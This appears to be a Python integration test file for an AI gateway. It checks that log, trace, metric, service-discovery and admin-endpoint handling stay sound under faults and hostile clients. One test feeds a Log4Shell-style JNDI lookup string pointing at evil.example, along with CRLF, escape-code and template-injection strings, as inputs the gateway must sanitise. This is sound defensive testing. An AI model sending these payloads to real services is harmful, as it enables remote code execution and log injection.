"""Rows G of the fault matrix: the log, traces, metrics, names, and who asks for them without end."""

import asyncio
import collections
import json
import os
import random
import re
import socket
import time

import aiohttp
import pytest

from observability.tracing import SpanExporter
from policies.identity import generate_signing_key, mint
from tests.support.admin_client import page, scrape
from tests.support.etcd_server import EtcdServer
from tests.support.otlp_receiver import OtlpReceiver
from tests.support.raw_client import CHAT, RawClient
from tests.support.running_gateway import OPEN_POLICY, announced, etcd_gateway, policy_with, until
from tests.support.scripted_backend import ScriptedBackend
from tests.support.serving import serving
from tests.support.traffic import Traffic

pytestmark = pytest.mark.integration

TRACE, PARENT = "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"

# The log

SHORT_QUEUE = (
    "from observability.line_writer import LineWriter; LineWriter.__init__.__kwdefaults__['queued_lines'] = 200"
)


@pytest.mark.parametrize("output", ["a pipe that nobody reads", "a full disk", "a pipe whose reader is gone"])
async def test_G11_nobody_takes_the_log(tmp_path, output):
    """200 lines wait for their turn (10,000 as shipped)."""
    reader, writer = os.pipe()
    if output == "a full disk":
        os.close(writer)
        writer = os.open("/dev/full", os.O_WRONLY)
    if output == "a pipe whose reader is gone":
        os.close(reader)
    try:
        async with ScriptedBackend() as backend:
            async with serving(tmp_path, backend.url, setup=SHORT_QUEUE, stdout=writer) as weir:
                async with Traffic(weir.data_address, clients=4, pause=0.0) as traffic:
                    await traffic.more(800, 60)
                assert traffic.failed == []
                told = await scrape(weir)
                assert told.value("weir_requests_total", status="200") >= 800
                assert told.value("weir_log_dropped_total") > 0
            assert weir.process.returncode == 0
        assert weir.errors == ""
    finally:
        os.close(writer)
    if output == "a pipe that nobody reads":
        with open(reader, "rb") as log:
            lines = log.read().splitlines()
        records = [json.loads(line) for line in lines[:-1]]  # the last one may be cut: the process has ended
        assert "serving" in {record.get("event") for record in records}


# Traces


@pytest.mark.parametrize("collector", ["refuses connections", "never answers", "answers 500"])
async def test_G12_a_collector_that_is_away(row, monkeypatch, collector):
    monkeypatch.setattr(SpanExporter.close, "__defaults__", (0.5,))  # 5 s as shipped: how long the end waits for it
    row.more_tasks = row.more_descriptors = 2  # the exporter's connection, and the collector's end of it
    async with OtlpReceiver() as receiver:
        receiver.status = 500
        with socket.socket() as port:
            port.bind(("127.0.0.1", 0))
            if collector == "never answers":
                port.listen()
            url = receiver.url if collector == "answers 500" else f"http://127.0.0.1:{port.getsockname()[1]}"
            config = f"telemetry: {{otlp: '{url}', sample: 100%}}\n"
            async with ScriptedBackend() as backend, row.gateway(backend.url, config=config) as gateway:
                async with Traffic(gateway.data_address) as traffic:
                    await traffic.more(200)
                    async with asyncio.timeout(30):
                        while not (await scrape(gateway)).value("weir_otlp_export_failures_total"):
                            await asyncio.sleep(0.1)
                assert traffic.failed == []
    assert [record["level"] for record in row.log if "do not reach the collector" in record["event"]] == ["warning"]


async def test_G12_one_bad_value_costs_no_other_span(row):
    async with OtlpReceiver() as receiver, ScriptedBackend() as backend:
        config = f"telemetry: {{otlp: '{receiver.url}', sample: 100%}}\n"
        row.more_tasks = row.more_descriptors = 2
        async with row.gateway(backend.url, config=config) as gateway:
            async with RawClient(gateway.data_address) as client:
                ids = []
                for model in ("tiny", "odd\udc85", "\ud800", "\x00\x1b[2J", "tiny"):
                    answer = await client.ask({**CHAT, "model": model})
                    assert answer.status < 500
                    ids.append(answer.headers["x-request-id"])
                    if answer.headers.get("connection") == "close":
                        await client.__aexit__()
                        await client.__aenter__()

            def told() -> set[str]:
                return {span.attributes.get("weir.request_id") for span in receiver.spans}

            await until(lambda: set(ids) <= told())
            assert (await scrape(gateway)).value("weir_otlp_export_failures_total") == 0


async def test_G15_a_client_cannot_have_its_trace_kept_nor_fill_ours(row):
    junk = [
        f"00-{TRACE}-{PARENT}-01-{'x' * 10_000}",
        f"00-{'0' * 32}-{PARENT}-01",
        f"00-{TRACE}-{'0' * 16}-01",
        f"ff-{TRACE}-{PARENT}-01",
        "\u00e9" * 20,
        "",
    ]
    async with OtlpReceiver() as receiver, ScriptedBackend() as backend:
        config = f"telemetry: {{otlp: '{receiver.url}', sample: 0%}}\n"
        row.more_tasks = row.more_descriptors = 2
        async with row.gateway(backend.url, config=config) as gateway, RawClient(gateway.data_address) as client:
            for _ in range(30):
                forced = f"traceparent: 00-{TRACE}-{PARENT}-01"
                assert (await client.ask(None, forced, "tracestate: " + "a=1," * 2000)).status == 200
            for value in junk:
                assert (await client.ask(None, f"traceparent: {value}")).status in (200, 400)
            assert (await client.ask(None, f"baggage: {'k=' + 'v' * 10_000}")).status == 200
            marker = await client.ask({**CHAT, "model": "no-such"})  # errors are kept: when it is there, all are
            assert marker.status == 404
            await client.ask(None, "traceparent: 00-" + "1" * 32 + f"-{PARENT}-01", path="/v1/chat/completions")
            traced = [re.search(rb"traceparent: ([^\r]*)", head)[1] for head in backend.heads]
            assert {value[-2:] for value in traced} == {b"00"}
            assert {value[3:35] for value in traced[:30]} == {TRACE.encode()}
            assert not any(TRACE.encode() in value for value in traced[30:-1])
            assert all(len(value) == 55 for value in traced)
            assert not any(b"tracestate" in head for head in backend.heads)
    assert [span for span in receiver.spans if span.attributes.get("http.response.status_code") == 200] == []
    assert not any(line.get("trace_id", "x") == "" for line in row.lines)


# Metrics


async def test_G13_names_that_clients_invent_are_no_series(row):
    """1000 names instead of 100,000: models, paths, keys, agents, methods, header names, request ids."""
    rng = random.Random(1)
    names = [f"{rng.getrandbits(64):016x}" for _ in range(1000)]
    key = generate_signing_key()
    policy = (
        policy_with(match='{path: "/v1/*"}') + "  - {name: pages, match: {path: '/pages/*'}, to: [{service: tiny}]}\n"
    )

    async def ask(client, number: int, name: str) -> int:
        document, path, lines = CHAT, "/v1/chat/completions", [f"user-agent: {name}", f"x-{name}: 1"]
        match number % 5:
            case 0:
                document = {**CHAT, "model": name}
            case 1:
                path = f"/pages/{name}?q={name}"
            case 2:
                path = f"/{name}"
            case 3:
                token = mint(key, sub=name, issuer=f"https://{name}", audience="w", ttl=60, wall=time.time(), kid=name)
                lines.append(f"authorization: Bearer {token}")
            case 4:
                lines.append(f"x-request-id: {name}")
        return (await client.ask(document, *lines, path=path)).status

    async def ask_for(gateway, these: list[str]) -> collections.Counter[int]:
        seen: collections.Counter[int] = collections.Counter()
        for number, name in enumerate(these):
            async with RawClient(gateway.data_address) as client:
                seen[await ask(client, number, name)] += 1
        return seen

    async with ScriptedBackend() as backend, row.gateway(backend.url, policy=policy) as gateway:
        await ask_for(gateway, names[:10])
        before = await scrape(gateway)
        seen = sum(
            await asyncio.gather(*(ask_for(gateway, names[10 + part :: 4]) for part in range(4))), collections.Counter()
        )
        async with RawClient(gateway.data_address) as client:
            for method in ("BREW", "PROPFIND", "M-SEARCH"):
                client.send(f"{method} /v1/models HTTP/1.1\r\nhost: a\r\n\r\n".encode())
                assert (await client.answer()).status in (400, 405)
                await client.__aexit__()
                await client.__aenter__()
        after = await scrape(gateway)
    assert seen.keys() == {200, 400, 401, 404}
    new = {(sample.name, *sorted(sample.labels.values())) for sample in after.samples}
    new -= {(sample.name, *sorted(sample.labels.values())) for sample in before.samples}
    assert len(new) < 60, new  # the refusals of odd methods are a new label set in a few families, once
    assert not [name for name in names if name in after.text]


async def test_G14_what_clients_send_is_one_line_that_parses(row):
    """The Big List of Naughty Strings goes the same way in tests/corpora/test_naughty_strings.py."""
    nasty = [
        "a\\r\\nb",
        "\x1b[2J",
        "\x00",
        "\u2028",
        "${jndi:ldap://evil.example/a}",
        "%0d%0a",
        "{{7*7}}",
        "é" * 300,
        "x" * 2**20,
    ]
    secret = "my PIN is 4711-0815"
    row.secrets.append("4711-0815")
    async with ScriptedBackend() as backend, row.gateway(backend.url) as gateway:
        for text in nasty:
            header = text if text.isprintable() and text.isascii() and len(text) < 1000 else "plain"
            prompt = [{"role": "user", "content": f"{secret} {text}"}]
            lines = [f"x-request-id: {header}!", f"user-agent: {header}"]
            async with RawClient(gateway.data_address) as client:
                answer = await client.ask({"model": text, "messages": prompt}, *lines)
            assert answer.status in (400, 404), text[:20]
            async with RawClient(gateway.data_address) as client:
                assert (await client.ask({"model": "tiny", "messages": prompt}, *lines)).status == 200
    assert len(row.lines) == 2 * len(nasty)
    for line in row._logs.splitlines():
        assert line.isascii()
        assert line.isprintable()
        assert all(len(value) <= 256 for value in json.loads(line).values() if isinstance(value, str))
    assert "jndi" not in row._logs


# Names


async def test_G16_a_name_that_changes_between_check_and_connect(row, monkeypatch):
    """Names are looked up again each 0.05 s instead of each 30 s; 127.0.0.2 stands for an address outside."""
    answers = {"good.test": ["127.0.0.1"], "bad.test": ["127.0.0.2"]}
    looked_up: collections.Counter[str] = collections.Counter()

    def look_up(name: str) -> list[str]:
        looked_up[name] += 1
        return answers[name]

    monkeypatch.setattr("discovery.vetting._addresses", look_up)
    monkeypatch.setattr("discovery.vetting.REFRESH_SECONDS", 0.05)
    outside = await asyncio.start_server(lambda *_: dialled.append(1), "127.0.0.2", 0)
    dialled: list[int] = []
    port = outside.sockets[0].getsockname()[1]
    async with ScriptedBackend() as backend, outside:
        with EtcdServer(row.home) as etcd:
            running = etcd_gateway(row.home, etcd.url, policy=row.policy(OPEN_POLICY), networks=["127.0.0.1/32"])
            async with row.around(running, bystander=False) as gateway:
                async with announced(etcd.url, "tiny/good", f"http://good.test:{backend.port}"):
                    async with announced(etcd.url, "tiny/bad", f"http://bad.test:{port}"):
                        await until(lambda: [one.endpoint.id for one in gateway.fleet.backends.values()] == ["good"])
                        async with RawClient(gateway.data_address) as client:
                            assert (await client.ask()).status == 200
                            answers["good.test"] = ["127.0.0.2", "127.0.0.1"]  # an answer that offers both
                            before = looked_up["good.test"]
                            await until(lambda: looked_up["good.test"] >= before + 3)  # the one before was heard
                            assert (await client.ask()).status == 200
                            answers["good.test"] = ["127.0.0.2"]
                            await until(lambda: not gateway.fleet.backends)
                            refused = await client.ask()
                            assert (refused.status, refused.json["error"]["code"]) == (503, "no_backend")
                        told = await scrape(gateway)
                        assert told.value("weir_discovery_rejected_total", reason="url") >= 2
    assert dialled == []
    assert len(backend.heads) == 2


# The admin listener


async def test_G19_metrics_are_asked_for_without_end(row):
    async with ScriptedBackend() as backend, row.gateway(backend.url) as gateway:
        asked: collections.Counter[int] = collections.Counter()
        stop = asyncio.Event()

        async def hammer() -> None:
            async with aiohttp.ClientSession() as session:
                while not stop.is_set():
                    async with session.get(f"http://{gateway.admin_address}/metrics") as answer:
                        asked[answer.status] += 1
                        if answer.status == 429:
                            assert int(answer.headers["retry-after"]) >= 1

        begun = time.perf_counter()
        hammers = [asyncio.create_task(hammer(), name="hammer") for _ in range(4)]
        async with Traffic(gateway.data_address) as traffic:
            await traffic.more(300, 60)
            assert (await page(gateway, "/readyz")).status == 200
            assert (await page(gateway, "/livez")).status == 200
            await until(lambda: asked[429])  # a slow machine takes a while to ask too often
        stop.set()
        await asyncio.gather(*hammers)
        seconds = time.perf_counter() - begun
        assert traffic.failed == []
        assert asked[429] > 0
        assert 0 < asked[200] <= 40 + 20 * seconds
        async with RawClient(gateway.data_address) as client:
            client.send(b"GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n")
            assert b"weir_requests_total" not in (await client.answer()).body


async def test_G19_connections_to_the_admin_listener_without_end(row, monkeypatch):
    """20 are served at a time here (256 as shipped), and those that ask nothing are closed after 1 s (30 s)."""
    monkeypatch.setattr("gateway.admin.MOST_CONNECTIONS", 20)
    monkeypatch.setattr("gateway.admin.IDLE_SECONDS", 1.0)
    async with ScriptedBackend() as backend, row.gateway(backend.url) as gateway:
        admin = gateway.admin_address
        streams = [await asyncio.open_connection(admin.host, admin.port) for _ in range(60)]
        for _, writer in streams[::2]:
            writer.write(b"GET /liv")
        at_once = [asyncio.create_task(reader.read(), name="read") for reader, _ in streams]
        await until(lambda: sum(read.done() for read in at_once) >= 40)
        async with Traffic(gateway.data_address) as traffic:
            await traffic.more(50)
        assert traffic.failed == []
        await until(lambda: all(read.done() for read in at_once), 20)
        assert {read.result() for read in at_once} == {b""}
        assert (await page(gateway, "/livez")).status == 200
        for _, writer in streams:
            writer.close()
